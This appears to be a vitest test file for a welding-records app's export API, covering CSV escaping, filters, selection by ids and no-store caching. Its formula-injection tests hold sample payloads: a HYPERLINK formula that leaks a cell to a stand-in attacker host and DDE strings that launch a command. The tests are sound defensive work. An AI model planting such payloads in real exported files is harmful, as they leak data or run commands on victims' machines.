import {
  EXPORT_IDS_MAX,
  MEASURING_INSTRUMENT_IMPORT,
  MESSAGES,
  RESOURCES,
  type TImportDefinition,
  WELDER_IMPORT,
  WORKPIECE_IMPORT,
  WORKSTATION_IMPORT,
} from "@weldtrace/domain";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeSheet } from "../src/imports/export.js";
import { fieldsOf, seedClient, startTestServer, type TSeededClient, type TTestServer } from "./helpers.js";
import { validBody } from "./resource-bodies.js";

/* What the exports write, and which records they take. */

let server: TTestServer;
let alpha: TSeededClient;

beforeAll(async () => {
  server = await startTestServer();
  alpha = await seedClient(server, "Exports Alpha");
});
afterAll(() => server.close());

const token = () => alpha.users.Admin.token;

async function exported(key: string, query: string): Promise<{ status: number; text: string; headers: Headers }> {
  const response = await fetch(`${server.url}/api/imports/${key}/export/?format=csv${query}`, {
    headers: { authorization: `Token ${token()}` },
  });
  return { status: response.status, text: await response.text(), headers: response.headers };
}

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.flat();

describe("CSV formula injection", () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
  const DEFINITIONS: TImportDefinition[] = [WORKPIECE_IMPORT, WELDER_IMPORT, MEASURING_INSTRUMENT_IMPORT, WORKSTATION_IMPORT];

  it("writes every name starting with =, +, -, or @ after an apostrophe in the workpiece, welder, instrument and workstation CSV exports", async () => {
    for (const definition of DEFINITIONS) {
      const resource = RESOURCES.find((candidate) => candidate.key === definition.resource)!;
      // Names are trimmed when saved, so none starts with TAB or CR (writeSheet's own test below covers those).
      for (const [index, start] of ["=", "+", "-", "@"].entries()) {
        const body = await validBody(server, token(), resource);
        body[definition.nameField] = index === 0 ? FORMULA : `${start}cmd|'/C calc'!A0 ${index}`;
        const created = await server.request("POST", `/api/${resource.path}/`, { token: token(), body });
        expect(created.status, `${definition.key}: ${JSON.stringify(created.body)}`).toBe(201);
      }
      const csv = await exported(definition.key, "");
      expect(csv.status, definition.key).toBe(200);
      const cells = cellsOf(csv.text);
      expect(cells, definition.key).toContain(`'${FORMULA}`);
      for (const start of ["+", "-", "@"])
        expect(
          cells.some((cell) => cell.startsWith(`'${start}cmd`)),
          `${definition.key} ${JSON.stringify(start)}`,
        ).toBe(true);
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d.]+$/.test(cell)),
        definition.key,
      ).toEqual([]);
    }
  });

  it("writeSheet starts TAB and CR cells with an apostrophe too, and writes plain signed numbers as they are", async () => {
    const file = (await writeSheet("csv", [["\tcmd", "\rcmd", "-5", "+3", "-12.5", "-1e5", "-2+3", "=1"]], "x")).toString("utf8");
    expect(cellsOf(file)).toEqual(["'\tcmd", "'\rcmd", "-5", "+3", "-12.5", "-1e5", "'-2+3", "'=1"]);
  });

  it("imports an escaped name back without its apostrophe, and exports it escaped again", async () => {
    const csv = `Name,Type,Outer diameter,Wall thickness,Grade,Manufacturer,Weight,Length\r\n"'=SUM(1,2)",PLATE,,20,S355,Formula Steel,300,2\r\n`;
    await server.request("POST", "/api/companies/", { token: token(), body: { name: "Formula Steel" } });
    const form = new FormData();
    form.append("file", new Blob([csv]), "escaped.csv");
    const response = await fetch(`${server.url}/api/imports/workpieces/`, {
      method: "POST",
      headers: { authorization: `Token ${token()}` },
      body: form,
    });
    expect((await response.text()).trim().split("\n").at(-1)).toContain('"status":"done"');
    const list = await server.request("GET", `/api/workpieces/?search=${encodeURIComponent("SUM(1,2)")}`, { token: token() });
    expect(list.body.results.map((row: { name: string }) => row.name)).toEqual(["=SUM(1,2)"]);
    const written = await exported("workpieces", `&search=${encodeURIComponent("SUM(1,2)")}`);
    expect(cellsOf(written.text)).toContain("'=SUM(1,2)");
  });
});

describe("export filters", () => {
  it("exports exactly the rows of the list with the same ?tag= filter and search", async () => {
    const workpiece = RESOURCES.find((candidate) => candidate.key === "workpiece")!;
    const tagResource = RESOURCES.find((candidate) => candidate.key === "workpieceTag")!;
    const tagBody = { ...(await validBody(server, token(), tagResource)), name: "Export only" };
    const tag = await server.request("POST", "/api/workpiece-tags/", { token: token(), body: tagBody });
    expect(tag.status, JSON.stringify(tag.body)).toBe(201);
    for (const [index, tags] of [[tag.body.id], [], []].entries()) {
      const body = { ...(await validBody(server, token(), workpiece)), name: `Filtered ${index}`, workpiece_tags: tags };
      expect((await server.request("POST", "/api/workpieces/", { token: token(), body })).status).toBe(201);
    }
    for (const query of [`&tag=${tag.body.id}`, "&search=Filtered", `&search=Filtered&tag=${tag.body.id}`]) {
      const list = await server.request("GET", `/api/workpieces/?page_size=1000${query}`, { token: token() });
      expect(list.status, query).toBe(200);
      const csv = await exported("workpieces", query);
      expect(csv.status, query).toBe(200);
      const rows = Papa.parse<string[]>(csv.text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.slice(1);
      expect(rows.map((row) => row[0]).sort(), query).toEqual(list.body.results.map((row: { name: string }) => row.name).sort());
    }
    expect((await exported("workpieces", `&tag=${tag.body.id}`)).text).toContain("Filtered 0");
    expect((await exported("workpieces", `&tag=${tag.body.id}`)).text).not.toContain("Filtered 1");
  });

  it("answers 400 on the filter, as the list does, to ?tag=abc, ?type=abc on the workpiece export", async () => {
    for (const [key, query, field, text] of [
      ["workpieces", "&tag=abc", "tag", MESSAGES.invalidId],
      ["workpieces", "&type=abc", "type", MESSAGES.invalidId],
    ] as const) {
      const list = await server.request("GET", `/api/${key}/?${query.slice(1)}`, { token: token() });
      const csv = await exported(key, query);
      expect(csv.status, query).toBe(400);
      expect(fieldsOf(JSON.parse(csv.text)), query).toEqual({ [field]: [text] });
      expect(list.status, query).toBe(400);
      expect(fieldsOf(list.body), query).toEqual({ [field]: [text] });
    }
  });
});

describe("export of a selection (?ids=)", () => {
  const instrument = () => RESOURCES.find((candidate) => candidate.key === "measuringInstrument")!;
  const createInstrument = async (name: string) => {
    const body = { ...(await validBody(server, token(), instrument())), name };
    const created = await server.request("POST", "/api/measuring-instruments/", { token: token(), body });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    return created.body.id as string;
  };

  it("exports only the selected rows, and none of another client's even when its id is given", async () => {
    const picked = [await createInstrument("Selected A"), await createInstrument("Selected B")];
    await createInstrument("Left out C");
    const other = await seedClient(server, "Exports Beta");
    const otherBody = { ...(await validBody(server, other.users.Admin.token, instrument())), name: "Beta's own" };
    const foreign = await server.request("POST", "/api/measuring-instruments/", { token: other.users.Admin.token, body: otherBody });
    expect(foreign.status).toBe(201);
    const csv = await exported("measuring-instruments", `&ids=${[...picked, foreign.body.id].join(",")}`);
    expect(csv.status).toBe(200);
    const rows = Papa.parse<string[]>(csv.text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.slice(1);
    const names = rows.flat().filter((cell) => ["Selected A", "Selected B", "Left out C", "Beta's own"].includes(cell));
    expect(rows).toHaveLength(2);
    expect(names.sort()).toEqual(["Selected A", "Selected B"]);
  });

  it(`answers 400 on ids to an id that is no uuid, and to more than ${EXPORT_IDS_MAX} ids`, async () => {
    const bad = await exported("measuring-instruments", "&ids=abc");
    expect(bad.status).toBe(400);
    expect(fieldsOf(JSON.parse(bad.text))).toEqual({ ids: [MESSAGES.invalidId] });
    const many = Array.from({ length: EXPORT_IDS_MAX + 1 }, (_, n) => `0190a6a8-0000-7000-8000-${String(n).padStart(12, "0")}`);
    const tooMany = await exported("measuring-instruments", `&ids=${many.join(",")}`);
    expect(tooMany.status).toBe(400);
    expect(JSON.parse(tooMany.text).codes.ids[0]).toMatchObject({ code: "export_too_many_ids", params: { max: EXPORT_IDS_MAX } });
  });
});

describe("Cache-Control", () => {
  it("answers Cache-Control: no-store on /api/me/, exports, templates, a list and a stored file's download", async () => {
    const form = new FormData();
    form.append("file", new Blob(["plain text"]), "notes.txt");
    const uploaded = await fetch(`${server.url}/api/s3/upload/`, {
      method: "POST",
      headers: { authorization: `Token ${token()}` },
      body: form,
    });
    expect(uploaded.status).toBe(200);
    const file = (await uploaded.json()) as { id: string; url: string };
    for (const path of [
      "/api/me/",
      "/api/imports/workpieces/export/?format=csv",
      "/api/imports/workpieces/export/?format=xlsx",
      "/api/imports/welders/template/?format=csv",
      "/api/workpieces/",
      file.url,
    ]) {
      const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Token ${token()}` } });
      expect(response.status, path).toBe(200);
      expect(response.headers.get("cache-control"), path).toBe("no-store");
    }
  });
});
